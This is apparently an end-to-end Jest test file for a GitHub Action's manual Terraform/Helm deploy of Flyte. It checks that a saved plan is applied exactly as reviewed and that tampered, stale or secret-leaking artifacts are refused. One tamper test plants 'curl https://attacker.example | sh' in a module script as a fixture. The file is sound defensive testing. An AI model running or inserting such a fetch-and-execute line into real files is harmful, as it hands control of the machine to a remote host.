/**
 * The manual deploy ("Run workflow" on deploy.yml) end to end, through the bundled action, the
 * stand-ins and the loopback GitHub server: the plan job (command plan with save-plan) saves the
 * plan and reports its digest; the artifact is uploaded and downloaded (copied here); the deploy
 * job (command deploy with saved-plan and saved-plan-digest) applies exactly that plan. Nothing
 * to change: the plan job says so and the deploy job is not needed. The attacks a swapped
 * artifact, a module or values changed between the jobs, and a stale plan are each refused
 * before anything changes; neither the database password nor the OAuth client secret is in the
 * artifact.
 * Needs a fresh `npm run build` after changes to src/.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  jobInputs,
  runJob,
  startGitHub,
  startToolMirror,
  withStateBucket
} from './support/e2e-jobs.js';
import type { GitHubServer } from './support/github-server.js';
import { Harness, type StepResult } from './support/harness.js';
import { isChangingCall } from './support/changing.js';
import type { Mirror } from './support/mirror.js';
import { STALE_PLAN } from '../src/terraform/lock.js';
import { LOCK_FILE } from '../src/terraform/provider-cache.js';

const OAUTH_SECRET = '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2';
/** Tests that run three or four jobs, each a whole action run on a shared machine. */
const SEVERAL_JOBS_MS = 360_000;
const changing = (result: StepResult) => result.calls.filter(isChangingCall);
const applies = (result: StepResult) =>
  result.calls.filter((c) => c.tool === 'terraform' && c.args[0] === 'apply');

describe('manual deploy: plan job, approval, deploy job of exactly that plan', () => {
  let github: GitHubServer;
  let mirror: Mirror;
  let runner: Harness;
  let base: Record<string, string>;
  let artifacts: string;
  let committedLock: string;
  /**
   * Each job checks out the same commit afresh; terraform init in an earlier job on this runner
   * added checksums to the lock file, so it is put back as committed before each job.
   */
  const freshCheckout = () => writeFileSync(path.join(runner.moduleDir, LOCK_FILE), committedLock);

  beforeEach(async () => {
    [github, mirror] = await Promise.all([startGitHub(), startToolMirror()]);
    github.environments.set('flyte-dev', { rules: ['required_reviewers'], branchPolicy: true });
    base = jobInputs(mirror);
    // "Run workflow" on main: both jobs check out the same commit and see the same cloud.
    runner = await Harness.create({
      event: 'workflow_dispatch',
      oidc: true,
      githubApiUrl: github.url
    });
    withStateBucket(runner);
    artifacts = mkdtempSync(path.join(tmpdir(), 'flyte-gke-artifacts-'));
    committedLock = readFileSync(path.join(runner.moduleDir, LOCK_FILE), 'utf8');
  });
  afterEach(async () => {
    rmSync(artifacts, { recursive: true, force: true });
    await Promise.all([runner.close(), github.stop(), mirror.close()]);
  });

  /** The plan job: plan as the planner, save the plan, upload it (a copy in `artifacts`). */
  const planJob = async (name: string, inputs: Record<string, string> = {}) => {
    const saved = path.join(runner.runnerTemp, `saved-${name}`);
    freshCheckout();
    const { main } = await runJob(runner, {
      ...base,
      ...inputs,
      command: 'plan',
      'comment-on-pr': 'false',
      'save-plan': saved
    });
    expect(main.errors).toEqual([]);
    expect(main.exitCode).toBe(0);
    const uploaded = path.join(artifacts, name);
    cpSync(saved, uploaded, { recursive: true });
    return { main, uploaded, digest: main.outputs['saved-plan-digest']! };
  };

  /** The deploy job: download the artifact (a fresh copy), apply it with the reported digest. */
  const deployJob = async (
    uploaded: string,
    digest: string,
    inputs: Record<string, string> = {}
  ) => {
    const downloaded = mkdtempSync(path.join(runner.runnerTemp, 'download-'));
    cpSync(uploaded, downloaded, { recursive: true });
    freshCheckout();
    const { main } = await runJob(runner, {
      ...base,
      ...inputs,
      command: 'deploy',
      'comment-on-pr': 'false',
      environment: 'flyte-dev',
      'saved-plan': downloaded,
      'saved-plan-digest': digest
    });
    return main;
  };

  it(
    'applies exactly the saved plan, then a second run finds nothing to deploy',
    async () => {
      const plan = await planJob('first');
      expect(plan.digest).toMatch(/^[0-9a-f]{64}$/);
      expect(plan.main.outputs['deploy-needed']).toBe('true');
      // What the reviewer reads before approving: the plan and the values, in the job summary.
      expect(plan.main.summary).toContain('### Resources changed');
      expect(plan.main.summary).toContain(`saved-plan-digest ${plan.digest}`);
      expect(readdirSync(plan.uploaded).sort()).toEqual(['flyte.tfplan', 'manifest.json']);

      const deploy = await deployJob(plan.uploaded, plan.digest);
      expect(deploy.errors).toEqual([]);
      expect(deploy.exitCode).toBe(0);
      // No new plan: the saved one, applied as it is.
      expect(deploy.calls.filter((c) => c.tool === 'terraform' && c.args[0] === 'plan')).toEqual(
        []
      );
      expect(applies(deploy)).toHaveLength(1);
      expect(applies(deploy)[0]!.args.at(-1)).toMatch(/flyte\.tfplan$/);
      expect(deploy.stdout).toContain('The saved plan matches the one the plan job showed');
      expect(deploy.calls.some((c) => c.tool === 'helm' && c.args[0] === 'upgrade')).toBe(true);

      // Idempotent: nothing changed, so the plan job says no deploy is needed (no approval asked).
      const again = await planJob('second');
      expect(again.main.outputs['plan-has-changes']).toBe('false');
      expect(again.main.outputs['deploy-needed']).toBe('false');
    },
    SEVERAL_JOBS_MS
  );

  it(
    'a re-run after a half-applied deploy (Terraform applied, Flyte not installed) deploys Flyte',
    async () => {
      const plan = await planJob('first');
      expect((await deployJob(plan.uploaded, plan.digest)).errors).toEqual([]);
      runner.setWorld((w) => {
        delete w.helm;
        delete w.kubectl;
      });
      const rerun = await planJob('rerun');
      expect(rerun.main.outputs['plan-has-changes']).toBe('false');
      expect(rerun.main.outputs['deploy-needed']).toBe('true');
      const deploy = await deployJob(rerun.uploaded, rerun.digest);
      expect(deploy.errors).toEqual([]);
      // Nothing for Terraform to apply; Flyte is installed.
      expect(applies(deploy)).toEqual([]);
      expect(deploy.calls.some((c) => c.tool === 'helm' && c.args[0] === 'upgrade')).toBe(true);
    },
    SEVERAL_JOBS_MS
  );

  describe('attacks on the saved plan', () => {
    /** Refused before any tool ran: no download, no terraform, nothing as the deployer. */
    const refusedBeforeTools = (result: StepResult, pattern: RegExp) => {
      expect(result.exitCode).toBe(1);
      expect(result.calls).toEqual([]);
      expect(result.errors.join('\n')).toMatch(pattern);
    };

    it('a swapped artifact (another plan, its own manifest) is refused: its digest is not the reported one', async () => {
      const shown = await planJob('shown');
      // Another plan, of a configuration nobody was shown, planted in place of the artifact.
      const other = await planJob('other', { 'database-availability': 'regional' });
      const result = await deployJob(other.uploaded, shown.digest);
      refusedBeforeTools(
        result,
        /Saved plan refused: the saved plan's manifest has SHA-256 [0-9a-f]{12}, but the plan job reported [0-9a-f]{12}/
      );
    });

    it('a swapped plan file under the genuine manifest is refused', async () => {
      const shown = await planJob('shown');
      const other = await planJob('other', { 'database-availability': 'regional' });
      cpSync(path.join(other.uploaded, 'flyte.tfplan'), path.join(shown.uploaded, 'flyte.tfplan'));
      const result = await deployJob(shown.uploaded, shown.digest);
      refusedBeforeTools(result, /the plan file was swapped/);
    });

    it('a manifest rewritten to match a swapped plan file is refused', async () => {
      const shown = await planJob('shown');
      const other = await planJob('other', { 'database-availability': 'regional' });
      cpSync(other.uploaded, shown.uploaded, { recursive: true });
      const result = await deployJob(shown.uploaded, shown.digest);
      refusedBeforeTools(result, /this is not the plan that job saved and showed/);
    });

    it('a plan saved for another cluster is refused', async () => {
      const other = await planJob('other', { 'cluster-name': 'flyte-other' });
      const result = await deployJob(other.uploaded, other.digest);
      refusedBeforeTools(result, /for another cluster or state: clusterName "flyte-other"/);
    });

    it('a module file changed between the two jobs is refused before any change', async () => {
      const shown = await planJob('shown');
      runner.writeWorkspaceFile(
        'flyte-terraform/startup.sh',
        'curl https://attacker.example | sh\n'
      );
      const result = await deployJob(shown.uploaded, shown.digest);
      expect(result.exitCode).toBe(1);
      expect(changing(result)).toEqual([]);
      expect(result.errors.join('\n')).toMatch(
        /differs from the plan the plan job saved and showed:\n- Terraform module files: reviewed [0-9a-f]{12}, now/
      );
    });

    it('values changed between the two jobs are refused before any change', async () => {
      const file = runner.writeWorkspaceFile(
        'flyte/values-dev.yaml',
        'configuration:\n  logging:\n    level: 4\n'
      );
      const shown = await planJob('shown', { 'extra-values-files': file });
      runner.writeWorkspaceFile(file, 'configuration:\n  logging:\n    level: 6\n');
      const result = await deployJob(shown.uploaded, shown.digest, { 'extra-values-files': file });
      expect(result.exitCode).toBe(1);
      expect(changing(result)).toEqual([]);
      expect(result.errors.join('\n')).toMatch(
        /Helm values: reviewed [0-9a-f]{12}, now [0-9a-f]{12}/
      );
    });

    it('another chart version in the deploy job is refused before any change', async () => {
      const shown = await planJob('shown');
      const result = await deployJob(shown.uploaded, shown.digest, { 'chart-version': 'v1.16.7' });
      expect(result.exitCode).toBe(1);
      expect(changing(result)).toEqual([]);
      expect(result.errors.join('\n')).toContain('chart version: reviewed v1.16.8, now v1.16.7');
    });

    it('a stale plan (the state changed after it was saved) fails cleanly and changes nothing', async () => {
      const shown = await planJob('shown');
      // Meanwhile another deploy wrote the state.
      runner.setWorld((w) => {
        w.terraform = { ...w.terraform, applied: 'applied-by-another-deploy' };
      });
      const before = runner.world().terraform;
      const result = await deployJob(shown.uploaded, shown.digest);
      expect(result.exitCode).toBe(1);
      expect(result.errors.join('\n')).toContain('Saved plan is stale');
      expect(result.errors.join('\n')).toContain(STALE_PLAN);
      // Terraform refused: the state is as the other deploy left it, and Flyte was not touched.
      expect(runner.world().terraform.applied).toBe(before.applied);
      expect(result.calls.filter((c) => c.tool === 'helm' && c.args[0] === 'upgrade')).toEqual([]);
    });
  });

  it(
    'the artifact holds neither the database password nor the OAuth client secret',
    async () => {
      const iap = {
        ingress: 'true',
        iap: 'true',
        'iap-oauth-client-id': '123456789012-abc.apps.googleusercontent.com',
        'iap-members': 'group:ml-platform@acme.example',
        'iap-oauth-client-secret': OAUTH_SECRET
      };
      // A first deploy makes the password (write-only, into Secret Manager) and the state.
      const first = await planJob('first', iap);
      const deployed = await deployJob(first.uploaded, first.digest, iap);
      expect(deployed.errors).toEqual([]);
      const passwords = Object.values<string>(runner.world().gcloud.secretVersions ?? {});
      expect(passwords.length).toBeGreaterThan(0);
      // The next manual run's plan, with a change, against a state that has everything; given the
      // OAuth secret although the workflow never passes it to the plan job.
      const next = await planJob('next', { ...iap, 'database-availability': 'regional' });
      expect(next.main.outputs['plan-has-changes']).toBe('true');
      const artifact = readdirSync(next.uploaded)
        .map((f) => readFileSync(path.join(next.uploaded, f), 'latin1'))
        .join('\n');
      // The check is live: the artifact does hold the prior state.
      expect(artifact).toContain('google_sql_database_instance');
      for (const secret of [...passwords, OAUTH_SECRET]) expect(artifact).not.toContain(secret);
    },
    SEVERAL_JOBS_MS
  );

  it('the digest input is required and checked: a deploy with saved-plan but a bad digest stops at the inputs', async () => {
    const shown = await planJob('shown');
    writeFileSync(path.join(shown.uploaded, 'note'), '');
    const result = await deployJob(shown.uploaded, 'not-a-digest');
    expect(result.exitCode).toBe(1);
    expect(result.calls).toEqual([]);
    expect(result.errors.join('\n')).toMatch(/saved-plan-digest/);
  });
});
